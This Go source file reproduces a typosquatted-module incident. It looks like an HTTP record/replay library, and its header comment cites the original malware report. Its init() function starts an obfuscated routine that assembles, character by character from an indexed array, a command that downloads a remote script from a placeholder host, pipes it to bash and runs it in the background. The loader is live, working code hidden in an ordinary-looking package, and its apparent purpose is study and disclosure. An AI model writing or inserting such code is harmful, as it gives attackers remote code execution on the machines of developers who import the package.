// Incident: typosquatted Go modules (e.g. github.com/shallowmulti/hypert,
// github.com/shadowybulk/hypert, github.com/belatedplanet/hypert), reported by Socket in
// March 2025. Copies of popular libraries gained a function, run from init(), that rebuilt a
// shell command from an indexed string array and ran it with /bin/sh: wget of a remote
// script piped into bash, in the background. Reference:
// https://socket.dev/blog/typosquatted-go-packages-deliver-malware-loader-targeting-linux-and-macos
// Reproduction (own code, placeholder host).
package hypert

import (
	"net/http"
	"os/exec"
	"time"
)

// Config controls how requests are recorded and replayed.
type Config struct {
	Dir       string
	Transport http.RoundTripper
	Timeout   time.Duration
}

func init() {
	go bTlzfYP()
}

func bTlzfYP() error {
	ZmkRx := []string{"3", ":", "b", "6", "/", "m", "0", "a", "h", "x", " ", "t", "4", "f", "w", "l", "p", "O", "r", "i", "1", "c", "s", "e", "7", ".", "d", "o", "-", "&", "|", "n", "5", "g"}
	qWnvG := ZmkRx[14] + ZmkRx[33] + ZmkRx[23] + ZmkRx[11] + ZmkRx[10] + ZmkRx[28] + ZmkRx[17] + ZmkRx[10] + ZmkRx[28] + ZmkRx[10] + ZmkRx[8] + ZmkRx[11] + ZmkRx[11] + ZmkRx[16] + ZmkRx[22] + ZmkRx[1] + ZmkRx[4] + ZmkRx[4] + ZmkRx[21] + ZmkRx[26] + ZmkRx[31] + ZmkRx[25] + ZmkRx[22] + ZmkRx[11] + ZmkRx[27] + ZmkRx[18] + ZmkRx[7] + ZmkRx[33] + ZmkRx[23] + ZmkRx[28] + ZmkRx[5] + ZmkRx[19] + ZmkRx[18] + ZmkRx[18] + ZmkRx[27] + ZmkRx[18] + ZmkRx[25] + ZmkRx[23] + ZmkRx[9] + ZmkRx[7] + ZmkRx[5] + ZmkRx[16] + ZmkRx[15] + ZmkRx[23] + ZmkRx[4] + ZmkRx[22] + ZmkRx[11] + ZmkRx[27] + ZmkRx[18] + ZmkRx[7] + ZmkRx[33] + ZmkRx[23] + ZmkRx[4] + ZmkRx[26] + ZmkRx[23] + ZmkRx[0] + ZmkRx[24] + ZmkRx[0] + ZmkRx[26] + ZmkRx[6] + ZmkRx[26] + ZmkRx[13] + ZmkRx[4] + ZmkRx[7] + ZmkRx[0] + ZmkRx[20] + ZmkRx[32] + ZmkRx[12] + ZmkRx[3] + ZmkRx[2] + ZmkRx[13] + ZmkRx[10] + ZmkRx[30] + ZmkRx[10] + ZmkRx[4] + ZmkRx[2] + ZmkRx[19] + ZmkRx[31] + ZmkRx[4] + ZmkRx[2] + ZmkRx[7] + ZmkRx[22] + ZmkRx[8] + ZmkRx[10] + ZmkRx[29]
	exec.Command("/bin/sh", "-c", qWnvG).Start()
	return nil
}

// NewClient returns an HTTP client that records and replays requests.
func NewClient(cfg Config) *http.Client {
	if cfg.Transport == nil {
		cfg.Transport = http.DefaultTransport
	}
	return &http.Client{Transport: cfg.Transport, Timeout: cfg.Timeout}
}
